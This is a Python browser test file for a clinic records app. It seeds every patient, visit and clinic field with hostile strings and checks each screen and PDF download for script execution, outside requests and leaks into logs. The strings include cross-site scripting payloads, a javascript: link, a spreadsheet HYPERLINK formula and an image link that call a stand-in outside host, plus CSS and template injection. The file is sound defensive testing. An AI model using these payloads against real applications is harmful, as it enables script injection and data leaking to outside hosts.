"""A patient whose every field holds an attack: nothing of it runs, nothing is fetched from elsewhere, nothing of it reaches log or address."""

from __future__ import annotations

from collections.abc import Iterator
from datetime import date, datetime, timedelta
from pathlib import Path

import pypdfium2 as pdfium
import pytest
from playwright.sync_api import Browser, Page, expect

from kneeclinic import actions
from kneeclinic.actions import Actor
from kneeclinic.record import ClinicProfile, Dose, ProgramItem
from kneeclinic.record.forms import CheckInForm, EpisodeForm, GoalForm, ObservationForm, PatientForm, PlanForm, ProgramForm, RunForm
from kneeclinic.ui.pages import SCREENS
from kneeclinic.vocabulary import AffectedSide, Sex, Side, VisitKind
from tests.journeys import therapist
from tests.journeys.clinic_server import Server

pytestmark = pytest.mark.browser

MARK = "Zzqmark"
ATTACKS = (
    f'{MARK}<img src=x onerror="window.hit=1">', f"{MARK}<script>window.hit=2</script>", f'{MARK}"><svg onload=window.hit=3>',
    f"{MARK}[go](javascript:window.hit=4)", f"{MARK}![x](http://outside.example/{MARK}.png)", f'=HYPERLINK("http://outside.example/{MARK}")',
    f"{MARK}</style><style>body{{display:none}}</style>", f"{MARK}{{{{7*7}}}}${{7*7}}:material/home: :red[x] $x^2$",
)
ALL = " ".join(ATTACKS)


@pytest.fixture
def under_attack(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[tuple[Server, str]]:
    """A server before a clinic in which every text is hostile, that of the clinic and of the account included."""
    server = Server(tmp_path)
    monkeypatch.setenv("KNEECLINIC_KEY_FILE", server.environment["KNEECLINIC_KEY_FILE"])
    clinic = actions.setup_clinic(server.clinic, ClinicProfile(name=ATTACKS[0], address=ATTACKS[1], phone=ATTACKS[3][:60]),
                                  therapist.NAME, ATTACKS[2], therapist.PASSWORD)
    lead = Actor.of(actions.accounts_of(clinic)[0], "test")
    today = clinic.today
    start = today - timedelta(days=14)
    past = clinic.at(start, clinic.now - timedelta(days=14))
    patient = actions.register_patient(clinic, lead, PatientForm(
        number=f"{MARK}<b>1", given_name=ATTACKS[0], family_name=ATTACKS[4], birth_date=date(1990, 2, 3), sex=Sex.FEMALE, note=ALL[:900]))
    problem = EpisodeForm(side=AffectedSide.RIGHT, opened_on=start, problem=ALL[:300], referrer=ATTACKS[5])
    episode = actions.open_episode(past, lead, patient.id, problem)
    visit = actions.start_visit(past, lead, episode.id, VisitKind.FIRST, start)
    values = {"pain_worst": 5, "pain_usual": 3, "akps": 60}
    actions.record_observations(past, lead, visit.id, [ObservationForm(measure=one, side=Side.RIGHT, value=value, note=ATTACKS[1])
                                                       for one, value in values.items()])
    actions.write_note(past, lead, visit.id, {"subjective": ALL, "objective": ALL, "assessment": ALL, "plan": ALL})
    actions.sign_visit(past, lead, visit.id)
    actions.amend_visit(clinic, lead, visit.id, ALL)
    item = ProgramItem("clamshell", AffectedSide.RIGHT, Dose(sets=3, reps=15, days_per_week=3), note=ATTACKS[2])
    actions.revise_program(past, lead, episode.id, ProgramForm(starts_on=start, items=(item,), note=ALL[:300]), None)
    monday = start - timedelta(days=start.weekday()) + timedelta(days=7)
    actions.record_check_in(clinic, lead, episode.id, CheckInForm(week_start=monday, pain_worst=4, pain_usual=2, note=ALL[:300]))
    actions.set_goal(clinic, lead, episode.id, GoalForm(measure="akps", side=Side.RIGHT, target=85, by=today + timedelta(days=60), note=ATTACKS[3]))
    actions.record_runs(clinic, lead, episode.id, [RunForm(started=datetime.combine(start, datetime.min.time()), km=4, minutes=30, note=ATTACKS[0])])
    actions.plan_visit(clinic, lead, episode.id, PlanForm(on=today + timedelta(days=3), note=ATTACKS[1]))
    actions.snooze_alert(clinic, lead, episode.id, "plateau", today + timedelta(days=3), ALL[:200])
    clinic.close()
    yield server.start(), episode.id
    server.stop()


def watched(browser: Browser) -> tuple[Page, list[str], list[str]]:
    context = browser.new_context(viewport={"width": 1440, "height": 900}, accept_downloads=True)
    page, asked, shown = context.new_page(), [], []
    page.set_default_timeout(30_000)
    context.on("request", lambda one: asked.append(one.url))
    page.on("websocket", lambda one: asked.append(one.url))
    page.on("dialog", lambda one: (shown.append(one.message), one.dismiss()))
    return page, asked, shown


def test_hostile_words_are_words_on_every_screen_and_on_paper(browser: Browser, under_attack: tuple[Server, str]) -> None:
    server, episode = under_attack
    page, asked, shown = watched(browser)
    therapist.sign_in(page, server)
    for screen in SCREENS:
        page.goto(f"{server.url}/{screen.name}?patient={episode}")
        expect(page.get_by_test_id("stMain")).to_be_visible()
        therapist.settled(page)
        page.wait_for_timeout(600)
        assert page.evaluate("window.hit") is None, f"{screen.name} ran an attack"
        assert "Traceback" not in page.inner_text("body")
        assert page.evaluate("document.querySelectorAll('a[href^=\"javascript:\"], img[src=\"x\"], img[src*=\"outside\"]').length") == 0, screen.name
        assert page.evaluate("getComputedStyle(document.body).display") != "none", screen.name
    page.goto(f"{server.url}/patient?patient={episode}")
    expect(page.get_by_text(f'{MARK}<img src=x onerror="window.hit=1">').first).to_be_visible()
    for path, words in ((f"handout/{episode}", True), (f"review/{episode}", True), ("form/first", True)):
        answer = page.request.get(f"{server.url}/download/{path}")
        assert answer.status == 200, path
        text = " ".join(" ".join(one.get_textpage().get_text_bounded() for one in pdfium.PdfDocument(answer.body())).split())
        assert not words or MARK in text, path
        assert b"/JavaScript" not in answer.body() and b"/URI" not in answer.body(), path
    assert shown == [], "a dialog opened"
    away = [one for one in asked if not one.startswith((server.url, server.url.replace("http", "ws", 1), "data:", "blob:", "about:"))]
    assert away == [], "a request left the machine"
    assert [one for one in asked if MARK.lower() in one.lower()] == [], "words of a patient in an address"
    assert MARK.lower() not in server.said().lower(), "words of a patient in the log of the server"
    page.context.close()
